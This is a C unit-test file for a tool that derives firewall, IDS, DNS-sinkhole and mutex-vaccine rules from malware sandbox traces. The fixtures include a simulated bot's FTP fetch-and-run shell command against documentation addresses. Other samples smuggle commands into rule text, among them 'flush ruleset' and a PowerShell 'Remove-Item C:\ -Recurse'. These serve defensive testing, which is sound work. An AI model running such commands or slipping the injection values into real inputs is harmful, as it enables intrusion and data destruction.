/* The whole way from a trace to rules, with honest and with hostile samples; rules for nftables are
 * given to nft itself (check only) where it is installed and permitted. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include <unistd.h>

#include "support.h"

static struct remedy_knowledge *knowledge;

static int load(void **state)
{
	(void)state;
	knowledge = shipped_knowledge();
	return 0;
}

static int unload(void **state)
{
	(void)state;
	remedy_knowledge_free(knowledge);
	return 0;
}

/* A bot that came through LSASS, was fetched by FTP, and joins a channel. */
static struct trace_log *bot(void)
{
	struct trace_log *log = trace_log_new(4u << 20);
	static const char *const events[] = {
		"{\"event\":\"session\",\"address\":\"192.0.2.7\",\"port\":445,\"proto\":\"tcp\","
		"\"protocol\":\"dcerpc\",\"detail\":\"MS04-011 LSASS "
		"DsRolerUpgradeDownlevelServer\"}",
		"{\"event\":\"shellcode\",\"kind\":\"00c0ffee00c0ffee\",\"os\":\"windows\","
		"\"port\":445,"
		"\"detail\":\"bind 1957\"}",
		"{\"event\":\"net.listen\",\"address\":\"0.0.0.0\",\"port\":1957,\"proto\":"
		"\"tcp\"}",
		"{\"event\":\"shell.command\",\"command\":\"echo open 198.51.100.9 8884 > o&echo "
		"user 1 1 "
		">> o &echo get ssms.exe >> o &echo quit >> o &ftp -n -s:o &ssms.exe\"}",
		"{\"event\":\"net.resolve\",\"name\":\"irc.example.net\",\"address\":\"203.0.113."
		"66\"}",
		"{\"event\":\"net.connect\",\"address\":\"203.0.113.66\",\"port\":6667,\"proto\":"
		"\"tcp\","
		"\"result\":\"connected\"}",
		"{\"event\":\"net.send\",\"address\":\"203.0.113.66\",\"port\":6667,\"proto\":"
		"\"tcp\","
		"\"length\":16,\"data\":\"JOIN #rx key\\\\x0d\\\\x0a\"}",
		"{\"event\":\"mutex.create\",\"name\":\"rxLisa'\"}",
		"{\"event\":\"registry.set\",\"key\":\"HKEY_LOCAL_"
		"MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows"
		"\\\\CurrentVersion\\\\Run\",\"value\":\"Update\",\"data\":\"ssms.exe\"}",
	};

	assert_non_null(log);
	for (size_t i = 0; i < sizeof events / sizeof *events; i++)
		tell(log, events[i]);
	for (uint32_t i = 0; i < 40; i++) {
		tell_connect(log, i * 0x05a7c3d1u, 445, "tcp", 1000 + 100 * i);
		tell(log, "{\"event\":\"sleep\",\"time\":2000,\"milliseconds\":100}");
	}
	for (int i = 0; i < 4; i++)
		tell(log, "{\"event\":\"mail.send\",\"server\":\"192.0.2.25\",\"from\":\"a@example."
			  "com\","
			  "\"to\":\"b@example.com\"}");
	return log;
}

static void behaviours_with_parameters(void **state)
{
	struct trace_log *log = bot();
	json_t *behaviours = behaviours_of(knowledge, log);
	const json_t *found;

	(void)state;
	found = parameters_of(behaviours, "infection_vector");
	assert_int_equal(json_integer_value(json_object_get(found, "port")), 445);
	assert_string_equal(json_string_value(json_object_get(found, "vulnerability")), "MS04-011");
	found = parameters_of(behaviours, "download");
	assert_string_equal(json_string_value(json_object_get(found, "address")), "198.51.100.9");
	assert_int_equal(json_integer_value(json_object_get(found, "port")), 8884);
	assert_string_equal(json_string_value(json_object_get(found, "file")), "ssms.exe");
	found = parameters_of(behaviours, "control_channel");
	assert_string_equal(json_string_value(json_object_get(found, "channel")), "#rx");
	assert_string_equal(json_string_value(json_object_get(found, "host")), "irc.example.net");
	assert_null(json_object_get(found, "address"));
	found = parameters_of(behaviours, "mail_spread");
	assert_int_equal(json_integer_value(json_object_get(found, "messages")), 4);
	assert_non_null(parameters_of(behaviours, "scan"));
	assert_non_null(parameters_of(behaviours, "backdoor"));
	assert_non_null(parameters_of(behaviours, "mutex"));
	assert_non_null(parameters_of(behaviours, "persistence"));
	for (size_t i = 1; i < json_array_size(behaviours); i++)
		assert_true(strcmp(json_string_value(json_object_get(
					   json_array_get(behaviours, i - 1), "name")),
				   json_string_value(json_object_get(json_array_get(behaviours, i),
								     "name"))) <= 0);
	json_decref(behaviours);
	trace_log_free(log);
}

static void candidates_are_complete_and_distinct(void **state)
{
	struct trace_log *log = bot();
	json_t *behaviours = behaviours_of(knowledge, log);
	struct remedy_candidates candidates;
	struct error error;

	(void)state;
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	assert_true(candidates.count >= 10);
	assert_int_equal(candidates.dropped, 0);
	for (size_t i = 0; i < candidates.count; i++) {
		const struct remedy_candidate *each = &candidates.items[i];
		assert_true(each->rule_count > 0);
		assert_true(each->pass >= 0 && each->pass <= 1);
		assert_null(strstr(each->title, "${"));
		assert_null(strstr(each->collateral, "${"));
		assert_null(strstr(each->undo, "${"));
		assert_int_equal(each->attack[0], 'T');
		assert_int_equal(strncmp(each->defend, "D3-", 3), 0);
		for (size_t j = 0; j < i; j++)
			assert_false(strcmp(each->title, candidates.items[j].title) == 0 &&
				     each->place == candidates.items[j].place);
	}
	/* One filter at subnets, asked for by the vector and by the scan. */
	const struct remedy_candidate *filter = candidate_of(&candidates, "filter-port-subnet");
	assert_non_null(strstr(filter->why, "Enters through"));
	assert_non_null(strstr(filter->why, "Looks for victims"));
	assert_non_null(strstr(filter->collateral, "Windows file and printer sharing"));
	assert_non_null(strstr(rule_of(filter, "nftables"), "tcp dport 445"));
	/* 40 connections in 4 s of sleep: 9.75 per second; one per second remains. */
	const struct remedy_candidate *limit = candidate_of(&candidates, "rate-limit-port");
	assert_true(limit->pass > 0.09 && limit->pass < 0.12);
	assert_non_null(strstr(rule_of(candidate_of(&candidates, "dns-sinkhole"), "rpz"),
			       "irc.example.net CNAME ."));
	assert_non_null(strstr(candidate_of(&candidates, "patch")->title, "KB835732"));
	assert_non_null(
		strstr(rule_of(candidate_of(&candidates, "ids-control-channel"), "suricata"),
		       "content:\"|23|rx\""));
	assert_non_null(strstr(rule_of(candidate_of(&candidates, "mutex-vaccine"), "powershell"),
			       "'rxLisa'''"));
	assert_null(candidate_of(&candidates, "nothing"));
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
}

/* Attackers behind address translation type an address that is of no use; the port still is. */
static void a_useless_address_leaves_the_port(void **state)
{
	struct trace_log *log = trace_log_new(1u << 20);
	(void)state;
	tell(log, "{\"event\":\"shell.command\",\"command\":\"echo open 0.0.0.0 8884 > o&echo user "
		  "1 1 >> o "
		  "&echo get ssms.exe >> o &echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe\"}");
	tell(log, "{\"event\":\"net.download\",\"url\":\"ftp://198.51.100.9:1080/ssms.exe\","
		  "\"path\":\"ssms.exe\"}");
	json_t *behaviours = behaviours_of(knowledge, log);
	struct remedy_candidates candidates;
	struct error error;
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	assert_non_null(
		strstr(rule_of(candidate_of(&candidates, "block-download-port"), "nftables"),
		       "tcp dport 8884"));
	const struct remedy_candidate *server = candidate_of(&candidates, "block-download-server");
	assert_non_null(strstr(rule_of(server, "nftables"), "ip daddr 198.51.100.9"));
	for (size_t i = 0; i < candidates.count; i++)
		assert_null(strstr(candidates.items[i].title, "0.0.0.0"));
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
}

/* No update is known for this one: no patch is offered, the filters are. */
static void an_unknown_bulletin_is_no_error(void **state)
{
	struct trace_log *log = trace_log_new(1u << 20);
	struct remedy_candidates candidates;
	struct error error;
	(void)state;
	tell(log,
	     "{\"event\":\"session\",\"address\":\"192.0.2.7\",\"port\":4899,\"proto\":\"tcp\","
	     "\"protocol\":\"unknown\",\"detail\":\"CVE-2099-12345\"}");
	json_t *behaviours = behaviours_of(knowledge, log);
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	assert_null(candidate_of(&candidates, "patch"));
	assert_non_null(candidate_of(&candidates, "filter-port-border"));
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	/* Records of somebody else may lack anything. */
	behaviours = json_loads("[{}, 3, {\"name\":\"scan\"}, {\"name\":\"mail_spread\"},"
				"{\"name\":\"scan\",\"parameters\":{\"port\":-1,\"proto\":7}}]",
				0, NULL);
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	assert_int_equal(candidates.count, 1);
	assert_string_equal(candidates.items[0].name, "mail-attachment-block");
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
}

/* What a sample says must never end a text or a line of a rule. */
static void hostile_texts_stay_inside(void **state)
{
	struct trace_log *log = trace_log_new(1u << 20);
	struct remedy_candidates candidates;
	struct error error;

	(void)state;
	tell(log, "{\"event\":\"net.send\",\"address\":\"192.0.2.1; flush ruleset\",\"port\":6667,"
		  "\"proto\":\"tcp\",\"length\":1,\"data\":\"JOIN #a\"}");
	tell(log,
	     "{\"event\":\"net.send\",\"address\":\"192.0.2.1\",\"port\":6667,\"proto\":\"tcp\","
	     "\"length\":1,\"data\":\"JOIN #a;)alert(any);sid:1\"}");
	tell(log, "{\"event\":\"mutex.create\",\"name\":\"a'); Remove-Item C:\\\\ -Recurse; ('\"}");
	tell(log, "{\"event\":\"mutex.create\",\"name\":\"two\\nlines\"}");
	tell(log, "{\"event\":\"mutex.create\",\"name\":\"a\u2019; calc; \u2019\"}");
	tell(log, "{\"event\":\"net.resolve\",\"name\":\"a.example CNAME evil.example\","
		  "\"address\":\"192.0.2.1\"}");
	tell(log,
	     "{\"event\":\"net.listen\",\"address\":\"0.0.0.0\",\"port\":99999,\"proto\":\"tcp\"}");
	tell(log, "{\"event\":\"net.listen\",\"address\":\"0.0.0.0\",\"port\":4444,"
		  "\"proto\":\"tcp drop; }\"}");
	json_t *behaviours = behaviours_of(knowledge, log);
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	unsigned vaccines = 0;
	for (size_t i = 0; i < candidates.count; i++) {
		const struct remedy_candidate *each = &candidates.items[i];
		for (size_t j = 0; j < each->rule_count; j++) {
			assert_null(strstr(each->rules[j].text, "flush ruleset"));
			assert_null(strstr(each->rules[j].text, "alert(any)"));
			assert_null(strstr(each->rules[j].text, "evil.example"));
			assert_null(strstr(each->rules[j].text, "99999"));
			assert_null(strstr(each->rules[j].text, "\u2019"));
			assert_null(strstr(each->rules[j].text, "two"));
		}
		if (strcmp(each->name, "mutex-vaccine") == 0) {
			assert_non_null(strstr(each->rules[0].text, "'a''); Remove-Item"));
			vaccines++;
		}
		assert_string_not_equal(each->name, "block-backdoor-port");
		assert_string_not_equal(each->name, "dns-sinkhole");
	}
	assert_int_equal(vaccines, 1);
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
}

/* Gives text to `nft -c -f -`; the exit status, or -1 where it can't be started. */
static int check_with_nft(const char *rule)
{
	char path[] = "/tmp/kenbi-nft-XXXXXX", command[120];
	int descriptor = mkstemp(path);

	assert_true(descriptor >= 0);
	assert_int_equal(write(descriptor, rule, strlen(rule)), strlen(rule));
	close(descriptor);
	snprintf(command, sizeof command, "PATH=$PATH:/usr/sbin:/sbin nft -c -f %s >&2", path);
	int status = system(command);
	unlink(path);
	return status;
}

static void nftables_rules_load(void **state)
{
	struct trace_log *log = bot();
	struct remedy_candidates candidates;
	struct error error;
	unsigned checked = 0;

	(void)state;
	if (check_with_nft("table inet kenbi_probe { }\n") != 0) {
		print_message("skipped: nft is not installed, or may not be used by this user\n");
		trace_log_free(log);
		skip();
	}
	tell(log,
	     "{\"event\":\"net.send\",\"address\":\"2001:db8::66\",\"port\":6667,\"proto\":\"tcp\","
	     "\"length\":1,\"data\":\"JOIN #six\"}");
	json_t *behaviours = behaviours_of(knowledge, log);
	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
	for (size_t i = 0; i < candidates.count; i++) {
		const char *rule = rule_of(&candidates.items[i], "nftables");
		if (!rule)
			continue;
		if (check_with_nft(rule) != 0)
			fail_msg("nft refuses %s:\n%s", candidates.items[i].name, rule);
		checked++;
	}
	assert_true(checked >= 8);
	remedy_candidates_fini(&candidates);
	json_decref(behaviours);
	trace_log_free(log);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(behaviours_with_parameters),
		cmocka_unit_test(candidates_are_complete_and_distinct),
		cmocka_unit_test(a_useless_address_leaves_the_port),
		cmocka_unit_test(an_unknown_bulletin_is_no_error),
		cmocka_unit_test(hostile_texts_stay_inside),
		cmocka_unit_test(nftables_rules_load),
	};
	return cmocka_run_group_tests(tests, load, unload);
}
